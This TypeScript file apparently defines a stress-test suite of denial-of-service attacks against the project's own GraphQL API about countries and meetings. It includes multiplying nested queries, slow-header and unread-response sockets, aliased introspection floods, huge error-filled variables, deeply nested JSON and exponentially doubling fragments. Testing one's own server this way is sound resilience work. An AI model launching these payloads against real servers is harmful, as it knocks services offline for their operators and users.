import type { Attacker } from './attacker';

/** A method of harming a server. */
export interface Attack {
  readonly name: string;
  /** True if the short run includes the attack. */
  readonly short?: true;
  /** Attacks until the attack is complete or the time is up. */
  readonly strike: (attacker: Attacker) => Promise<void>;
}

/** Nests a selection in itself `levels` times around a leaf. */
function nested(open: string, levels: number, leaf: string): string {
  return `${open.repeat(levels)}${leaf}${'}'.repeat((open.match(/\{/g)?.length ?? 0) * levels)}`;
}

const inFrance = (selection: string): string => `{ country(code: "FR") { ${selection} } }`;

/** Builds attacks with lists within lists, one for each number of levels. The short run includes the last. */
const multiplying = (name: string, open: string, levels: readonly number[]): readonly Attack[] =>
  levels.map((count) => ({
    name: `${name}, ${String(count)} levels`,
    ...(count === levels.at(-1) && { short: true }),
    strike: (attacker) => attacker.ask(inFrance(nested(open, count, 'code'))),
  }));

const immigrants = 'continental { immigrants { origin { ';

/** Attacks with nested lists without pages, where each level multiplies the size of the response. */
const multiplied: readonly Attack[] = [
  ...multiplying('immigrants', immigrants, [3, 4, 5]),
  ...multiplying('emigrants', 'continental { emigrants { destination { ', [3, 4, 5]),
  ...multiplying('corridors of remittances', 'continental { remittanceCorridors { from { ', [3, 4, 5]),
  ...multiplying(
    'participants of meetings',
    'meetings(first: 20) { nodes { participatingCountries { ',
    [1, 2, 3],
  ),
  ...multiplying(
    'members of members',
    'continental { memberships { body { continental { memberships { country { ',
    [1, 2, 3],
  ),
];

const manyCountries = 'query($i: [CountryCode!]) { meetings(filter: { heldIn: $i }) { totalCount } }';
const manyEnums = 'query($i: [ComponentName!]) { countries(filter: { memberOf: $i }) { totalCount } }';
const manyObjects = 'query($i: MeetingFilter) { meetings(filter: $i) { totalCount } }';

const wrongly = (name: string, query: string, item: unknown, count: number): Attack => ({
  name: `${name}, ${String(count)} of them`,
  ...(count === 20_000 && { short: true }),
  strike: (attacker) => attacker.ask(query, { i: Array.from({ length: count }, () => item) }),
});

/** Attacks with variables that contain very many errors. */
const wrong: readonly Attack[] = [
  wrongly('wrong codes', manyCountries, 7, 20_000),
  wrongly('wrong words of an enum', manyEnums, 'ABCDEFGHIJ', 20_000),
  wrongly('wrong words of an enum', manyEnums, 'A', 250_000),
  wrongly('objects for words', manyEnums, {}, 20_000),
  wrongly('lists for an object', manyObjects, { heldIn: [7] }, 20_000),
];

const fields = ['code', 'name', 'memberOf', 'region', 'subregion', 'auMember'] as const;

/** Builds the operation with the given number. Each operation needs a plan of its own. */
function distinct(index: number): string {
  const asked = fields.filter((_, bit) => (index >> bit) % 2 === 1).join(' ');
  return `{ countries(first: ${String((index % 90) + 1)}) { nodes { __typename ${asked} meetings(first: 2) { nodes { id ${index & 64 ? 'title' : ''} ${index & 128 ? 'startDate' : ''} ${index & 256 ? 'city' : ''} } } ${index & 512 ? 'rabat { __typename }' : ''} ${index & 1_024 ? 'khartoum { __typename }' : ''} } } }`;
}

const operations = (connections: number, count: number): Attack => ({
  name: `${String(count)} distinct operations on ${String(connections)} connections`,
  ...(connections === 10 && { short: true }),
  async strike(attacker) {
    let next = 0;
    const one = async (): Promise<void> => {
      while (attacker.goesOn && next < count) await attacker.ask(distinct((next += 1)));
    };
    await Promise.all(Array.from({ length: connections }, one));
  },
});

const large = JSON.stringify({
  query:
    '{ meetings(first: 100) { nodes { id title startDate endDate participatingCountries { code name memberOf } } } }',
});
const askingFor = (body: string): string =>
  `POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nCache-Control: no-cache\r\nContent-Length: ${String(body.length)}\r\n\r\n${body}`;

/** Attacks that hold connections. */
const held: readonly Attack[] = [
  {
    name: '60 readers that do not read, each with 20 answers before it',
    short: true,
    async strike(attacker) {
      for (let index = 0; index < 60; index += 1) attacker.open(askingFor(large).repeat(20));
      await attacker.wait(60_000);
      attacker.note('not read');
    },
  },
  {
    name: '200 connections that never end their headers',
    async strike(attacker) {
      const sockets = Array.from({ length: 200 }, () =>
        attacker.open('POST /graphql HTTP/1.1\r\nHost: x\r\n'),
      );
      while (attacker.goesOn) {
        for (const socket of sockets) socket.write('X: y\r\n');
        await attacker.wait(500);
      }
      attacker.note('not ended');
    },
  },
  {
    name: '200 clients that go before they are answered',
    async strike(attacker) {
      for (let index = 0; index < 200 && attacker.goesOn; index += 1) {
        const query = inFrance(nested(immigrants, 3, `code a${String(index)}: name`));
        const socket = attacker.open(askingFor(JSON.stringify({ query })));
        await attacker.wait(20);
        socket.destroy();
        attacker.note('gone');
      }
    },
  },
];

const typesTwice =
  '__schema { types { name fields { name args { name type { name } } type { name ofType { name } } } } }';

/** All other attacks. */
const others: readonly Attack[] = [
  {
    name: 'introspection under 18 aliases',
    short: true,
    strike: (attacker) =>
      attacker.ask(
        `{ ${Array.from({ length: 18 }, (_, index) => `a${String(index)}: ${typesTwice}`).join(' ')} }`,
      ),
  },
  {
    name: 'introspection under aliases, 20 times, each another',
    async strike(attacker) {
      for (let round = 0; round < 20 && attacker.goesOn; round += 1)
        await attacker.ask(
          `{ ${Array.from({ length: 10 }, (_, index) => `r${String(round)}a${String(index)}: ${typesTwice}`).join(' ')} }`,
        );
    },
  },
  {
    name: 'a megabyte of white space, brackets, or fields',
    async strike(attacker) {
      for (const query of [' '.repeat(1_000_000), '{'.repeat(1_000_000), `{ ${'a '.repeat(500_000)}}`])
        await attacker.ask(query);
    },
  },
  {
    name: 'JSON within itself, 100,000 deep',
    strike: (attacker) =>
      attacker.post(
        `{"query":"{ __typename }","variables":{"a":${'['.repeat(100_000)}${']'.repeat(100_000)}}}`,
      ),
  },
  {
    name: 'fragments that double thirty times',
    strike: (attacker) =>
      attacker.ask(
        `{ ...F0 } ${Array.from({ length: 30 }, (_, index) => `fragment F${String(index)} on Query { ...F${String(index + 1)} ...F${String(index + 1)} }`).join(' ')} fragment F30 on Query { __typename }`,
      ),
  },
  {
    name: 'one question of 23 kB, ten at once, never kept',
    short: true,
    async strike(attacker) {
      const one = async (): Promise<void> => {
        while (attacker.goesOn) await attacker.post(large, { 'cache-control': 'no-cache' });
      };
      await Promise.all(Array.from({ length: 10 }, one));
    },
  },
];

/** All attacks, beginning with the attacks that have the least lasting effect. */
export const attacks: readonly Attack[] = [
  { name: 'nothing', short: true, strike: (attacker) => attacker.wait(60_000) },
  ...others,
  ...wrong,
  ...held,
  operations(1, 400),
  operations(10, 1_950),
  ...multiplied,
];
